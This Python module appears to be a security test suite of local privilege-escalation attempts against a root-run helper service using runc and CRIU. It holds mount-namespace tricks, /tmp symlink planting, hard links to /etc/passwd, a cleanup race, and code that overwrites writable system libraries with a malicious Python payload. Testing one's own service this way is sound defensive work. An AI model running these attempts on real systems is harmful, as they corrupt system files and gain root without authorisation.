"""Of the escalation book: attempts by somebody who had read what the server's uid can reach, and none of the other attempts.

Each function with the mark `@attempt` is one; see `escalation_attempts`.
"""

from __future__ import annotations

import json
import os
import threading
from contextlib import suppress
from pathlib import Path

from escalation_tools import DESKTOP, Attacker, attempt, mount_namespace


@attempt
def image_assembled_in_a_mount_namespace(attacker: Attacker) -> None:
    """Assemble an image of directories that are root's own in a mount namespace of his: the host's root is its file system.

    An overlay's directory has the owner of its uppermost layer, and the names of all of them.
    """
    layer, place = attacker.home / "layer", attacker.home / "ns-images" / "basic" / "current"
    (layer / "rootfs").mkdir(parents=True)
    (layer / "manifest.json").touch()
    place.mkdir(parents=True)
    manifest = attacker.images / "basic" / "current" / "manifest.json"
    script = (
        f"mount -t overlay o -o lowerdir=/srv:{layer} {place} && mount --rbind / {place}/rootfs"
        f" && mount --bind {manifest} {place}/manifest.json; ls -lan {place}"
    )
    with mount_namespace(attacker, script) as root:
        farm = attacker.farm(images=Path(f"{root}{place.parents[1]}"))
        farm.desktop()
        farm.as_root_inside("sh", "-c", f"cat {attacker.secret}; id -u > {attacker.proof}")
        farm.end()


@attempt
def store_in_a_mount_namespace(attacker: Attacker) -> None:
    """Name a store on file systems that he mounted himself, so that he could write to root's part of it."""
    place, upper, work = (attacker.home / name for name in ("ns-store", "upper", "work"))
    for folder in (place, upper, work):
        folder.mkdir()
    mounts = (
        f"mount -t tmpfs t {place}",
        f"mount -t overlay o -o userxattr,lowerdir=/srv,upperdir={upper},workdir={work} {place}",
        f"mount --bind /etc {place}",
    )
    for mount in mounts:
        with mount_namespace(attacker, mount) as root:
            farm = attacker.farm(store=Path(f"{root}{place}"))
            if farm.reply.get("socket"):
                farm.desktop()
                farm.ask("checkpoint", desktop_id="d1", snapshot_id="s1")
                _write_over(Path(f"{root}{place}"))
                farm.ask("restore", desktop_id="d2", snapshot_id="s1")
            farm.end()
        (attacker.home / "ns.pid").unlink()


def _write_over(top: Path) -> None:
    """Change what files there are below a directory, as far as that goes."""
    for folder, _, names in os.walk(top):
        for name in names:
            with suppress(OSError), open(f"{folder}/{name}", "r+b") as file:
                file.write(b"\0" * 64)
                print("wrote", folder, name)


@attempt
def links_where_tools_write(attacker: Attacker) -> None:
    """Leave links to the victim, and to a file in root's directory, under the names that runc and CRIU use in shared directories."""
    for place in (Path("/tmp"), Path("/dev/shm"), Path("/var/tmp")):
        names = [f"criu-{number}" for number in range(20)] + [f"runc-process{number}" for number in range(20)]
        names += [
            f"dart-{os.getuid()}",
            "dart-hostd",
            "dart-desktops",
            "runc",
            "criu",
            "cr-check",
            "stats-dump",
            "live",
        ]
        made = []
        for name in names:
            for target in (attacker.victim, attacker.proof):
                with suppress(OSError):
                    (place / name).symlink_to(target)
                    made.append(place / name)
        farm = attacker.farm(store=place / f"escalation-{os.getuid()}")
        farm.desktop()
        farm.ask("checkpoint", desktop_id="d1", snapshot_id="s1")
        farm.ask("restore", desktop_id="d2", snapshot_id="s1")
        farm.end()
        for path in made:
            path.unlink(missing_ok=True)
        with suppress(OSError):
            (place / f"escalation-{os.getuid()}").rmdir()


@attempt
def bytecode_beside_what_root_runs(attacker: Attacker) -> None:
    """Put compiled modules, or anything, beside the files that root's Python, runc and CRIU are made of."""
    version = attacker.helper_script.parent
    tops = [
        version,
        version.parent,
        Path(os.__file__).parent,
        Path("/usr/local/lib"),
        Path("/usr/sbin"),
        Path("/usr/lib"),
    ]
    evil = attacker.evil_python(attacker.home / "evil.py").read_bytes()
    for top in tops:
        for folder, folders, names in os.walk(top):
            for place in [Path(folder), *(Path(folder) / name for name in folders)]:
                if os.access(place, os.W_OK):
                    print("may write to", place)
                    (place / "json.py").write_bytes(evil)
            for name in names:
                path = Path(folder) / name
                if not path.is_symlink() and os.access(path, os.W_OK):
                    print("may write to", path)
                    path.write_bytes(evil)
    attacker.farm().desktop()


@attempt
def hard_links_to_roots_files(attacker: Attacker) -> None:
    """Have root's own files in his directories by hard links, as an image's manifest and where root writes."""
    place = attacker.home / "linked" / "basic" / "current"
    (place / "rootfs").mkdir(parents=True)
    for source, target in (
        (attacker.secret, place / "manifest.json"),
        (attacker.victim, place / "manifest.json"),
        (attacker.victim, attacker.home / "helper.log"),
        (Path("/etc/passwd"), attacker.home / "r" / "hostd.lock"),
    ):
        target.parent.mkdir(parents=True, exist_ok=True)
        target.unlink(missing_ok=True)
        try:
            os.link(source, target)
            print("linked", source, target)
        except OSError as error:
            print(error)
            continue
        attacker.farm(images=attacker.home / "linked", runtime=attacker.home / "r").desktop()


@attempt
def runtime_directory_is_a_loop(attacker: Attacker) -> None:
    """Name runtime directories that are loops, links to descriptors, to root's places, and longer than a path may be."""
    loop, root = attacker.home / "loop", attacker.home / "root"
    loop.symlink_to(loop)
    root.symlink_to("/root")
    for runtime in (
        str(loop),
        str(root),
        "/proc/self/fd/0",
        "/proc/thread-self/root/etc",
        "/dev/fd/1",
        f"/{'a/' * 1900}b",
        f"/{'b' * 300}",
        "//etc",
        "/./etc/.",
        "/\u2025/etc",
        "/etc\ud800",
    ):
        message = {
            "runtime_dir": runtime,
            "images_dir": str(attacker.images),
            "store_dir": "/dev/shm",
            "idle_timeout_s": 0.2,
        }
        farm = attacker.farm(request=json.dumps(message).encode() + b"\n")
        if farm.reply.get("socket"):
            print(farm.socket)
        farm.end()


@attempt
def store_is_exchanged_while_it_is_removed(attacker: Attacker) -> None:
    """Exchange root's part of his store for a directory with links, while the helper ends and removes what is his."""
    store, bait = attacker.home / "store", attacker.home / "bait"
    (bait / "l").mkdir(parents=True)
    for name in ("d", "s", "l/x"):
        (bait / name).symlink_to(attacker.victim.parent)
    stop = threading.Event()

    def exchange() -> None:
        while not stop.is_set():
            for part in store.glob("dart-*"):
                for source, target in ((part, store / "away"), (bait, part), (part, bait), (store / "away", part)):
                    with suppress(OSError):
                        os.rename(source, target)

    thread = threading.Thread(target=exchange)
    thread.start()
    try:
        for number in range(6):
            farm = attacker.farm(store=store, runtime=attacker.home / f"r{number % 2}")
            if farm.reply.get("socket"):
                farm.ask("create", desktop_id="d1", **DESKTOP)
            farm.end()
    finally:
        stop.set()
        thread.join()
